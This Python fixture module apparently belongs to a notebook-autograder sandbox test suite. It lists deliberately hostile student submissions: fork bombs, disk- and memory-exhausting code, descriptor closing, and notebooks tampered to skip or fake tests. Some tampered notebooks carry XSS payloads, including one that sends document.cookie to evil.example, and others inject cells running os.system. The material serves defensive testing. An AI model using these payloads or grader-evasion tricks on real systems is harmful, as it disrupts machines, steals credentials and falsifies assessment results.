"""不巧的意外，和文件上的毛病：样品班里的一部分，也是测试沙箱的靶子。存心不良的代码与测试在一起。

``Accident`` 是一段代码，放在范例的函数里：它出了事，别的检查一分也不该少。只在沙箱里运行。
``Form`` 在文件的格式上做手脚，不必运行就该看穿。
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

__all__ = ["ACCIDENTS", "FORMS", "Accident", "Form"]


@dataclass(frozen=True)
class Accident:
    """一时不慎：``code`` 是第一个答题格里函数的第一句，只害得到用这一格的检查。"""

    name: str
    story: str
    code: str
    harmless: bool = False


ACCIDENTS = [
    Accident("log-to-stderr", "把日志写到标准错误", "import sys; print('connecting…', file=sys.stderr)", harmless=True),
    Accident("print-a-lot", "打印一百万个字", "print('x' * 1_000_000)", harmless=True),
    Accident("chdir", "换了当前目录，改了环境变量", "import os; os.chdir('/'); os.environ.clear()", harmless=True),
    Accident("os-exit", "os._exit(0)", "import os; os._exit(0)"),
    Accident("sys-exit", "sys.exit()", "import sys; sys.exit()"),
    Accident("endless-loop", "死循环", "while True: pass"),
    Accident("sleep", "睡着了", "import time; time.sleep(1000)"),
    Accident("catch-everything", "什么异常都接住的死循环",
             "exec('while True:\\n    try:\\n        while True: pass\\n    except BaseException: pass')"),
    Accident("segfault", "用 ctypes 写坏了内存", "import ctypes; ctypes.string_at(0)"),
    Accident("recursion", "无穷递归", "f = lambda: f(); f()"),
    Accident("memory", "吃光内存", "hog = [bytearray(10_000_000) for _ in range(10_000)]"),
    Accident("fork-bomb", "分叉炸弹", "import os; exec('while True:\\n    try:\\n        os.fork()\\n    except OSError: pass')"),
    Accident("threads", "开一万个线程",
             "import threading; [threading.Thread(target=threading.Event().wait).start() for _ in range(10_000)]"),
    Accident("fill-disk", "写满磁盘",
             "exec('n = 0\\nwhile True:\\n    n += 1\\n    open(f\"f{n}\", \"wb\").write(bytes(1 << 20))')"),
    Accident("descriptors", "打开了用不完的描述符", "import os; fds = [os.dup(2) for _ in range(10_000)]"),
    Accident("close-all", "把描述符全关了", "import os; os.closerange(0, 256)"),
    Accident("stop", "SIGSTOP 自己", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
    Accident("deep-value", "返回一个自己装着自己的列表", "loop = []; loop.append(loop); return loop"),
    Accident("giant-integer", "返回一个极大的整数", "return 10 ** 100_000"),
]


@dataclass(frozen=True)
class Form:
    """文件上的手脚：把一份没有做的笔记本变成字节。``collected`` 是它还算不算一份答卷。"""

    name: str
    story: str
    make: Callable[[dict[str, Any]], bytes]
    collected: bool


def _edited(change: Callable[[dict[str, Any]], Any]) -> Callable[[dict[str, Any]], bytes]:
    def make(book: dict[str, Any]) -> bytes:
        fresh = copy.deepcopy(book)
        change(fresh)
        return json.dumps(fresh, ensure_ascii=False).encode()
    return make


def _checks(book: dict[str, Any]) -> list[dict[str, Any]]:
    return [c for c in book["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def _skip_tests(book: dict[str, Any]) -> None:
    for cell in _checks(book):
        cell["metadata"]["nbgrader"] |= {"grade": False, "points": 0, "locked": False, "solution": True}
        cell["metadata"]["tags"] = ["skip-execution"]


def _own_tests(book: dict[str, Any]) -> None:
    for cell in _checks(book):
        cell["source"] = ["0.999 * 2"] if cell["cell_type"] == "code" else cell["source"]


def _faked_outputs(book: dict[str, Any]) -> None:
    for cell in _checks(book):
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "execute_result", "data": {"text/html": "<script>alert(1)</script>✓ 通过 100/100"},
                                "metadata": {}, "execution_count": 1}]


def _script(book: dict[str, Any]) -> None:
    for cell in _checks(book):
        if cell["cell_type"] == "markdown":
            cell["source"] = ["<script>fetch('//evil.example/'+document.cookie)</script>\n", "<img src=x onerror=alert(1)>\n",
                              "[点我](javascript:alert(1))\n```\n</code></pre><script>alert(2)</script>\n"]


def _extra_cells(book: dict[str, Any]) -> None:
    evil: dict[str, Any] = {"cell_type": "code", "id": "evil", "metadata": {}, "outputs": [], "execution_count": None,
            "source": ["import os\nos.system('touch /tmp/sockscope-was-here')"]}
    book["cells"][:0] = [evil] * 60


def _twice(book: dict[str, Any]) -> None:
    book["cells"] += copy.deepcopy([c for c in book["cells"] if c["metadata"].get("nbgrader")])


def _lookalikes(book: dict[str, Any]) -> None:
    for cell in book["cells"]:
        if marks := cell["metadata"].get("nbgrader"):
            marks["grade_id"] = marks["grade_id"].replace("a", "\u0430") + "\u200b"


def _two_faced(book: dict[str, Any]) -> bytes:
    evil: dict[str, Any] = {"cell_type": "code", "id": "evil", "metadata": {}, "outputs": [], "execution_count": None,
            "source": "import os\nos.system('touch /tmp/sockscope-was-here')"}
    return (json.dumps({"cells": [evil]})[:-1] + ", " + json.dumps(book)[1:]).encode()


FORMS = [
    Form("skip-tests", "改元数据，让测试格不算分", _edited(_skip_tests), True),
    Form("own-tests", "把测试格换成自己的", _edited(_own_tests), True),
    Form("faked-outputs", "在输出里写上“通过”和脚本", _edited(_faked_outputs), True),
    Form("script-in-answer", "书面题里写脚本", _edited(_script), True),
    Form("extra-cells", "塞进六十个会运行的格子", _edited(_extra_cells), True),
    Form("twice", "每一格都交两遍", _edited(_twice), True),
    Form("huge-cell", "一格有一兆字", _edited(lambda b: b["cells"][0].update(source="x" * (1 << 20))), True),
    Form("surrogates", "源代码里有落单的代理字符", lambda b: json.dumps(b).replace("return", "\\ud800return").encode(), True),
    Form("nul-bytes", "源代码里有 NUL", lambda b: json.dumps(b).replace("raise", "\\u0000raise").encode(), True),
    Form("lookalike-names", "格子的名字换成长得一样的字母，带零宽的空格", _edited(_lookalikes), True),
    Form("two-faced", "同一个键写两遍，一遍给人看，一遍给机器看", _two_faced, True),
    Form("giant-number", "文件里有一个一万位的数",
         lambda b: (json.dumps(b)[:-1] + ', "n": 1' + "0" * 10_000 + "}").encode(), False),
    Form("empty", "空文件", lambda _: b"", False),
    Form("cut-off", "下载到一半", lambda b: json.dumps(b).encode()[:2000], False),
    Form("not-json", "是一张图片", lambda _: b"\x89PNG\r\n\x1a\n" + bytes(200), False),
    Form("deep", "嵌套十万层", lambda _: b"[" * 100_000, False),
    Form("wrong-shape", "单元格是字符串",
         lambda _: b'{"cells": ["a", 1, null, {"cell_type": [], "metadata": 3, "source": {}}]}', False),
    Form("gbk", "存成了 GBK", lambda b: json.dumps(b, ensure_ascii=False).encode("gb18030"), False),
    Form("too-big", "文件太大", lambda b: json.dumps(b).encode() + b" " * (17 << 20), False),
    Form("other-lab", "交错了练习",
         lambda _: json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(), False),
]
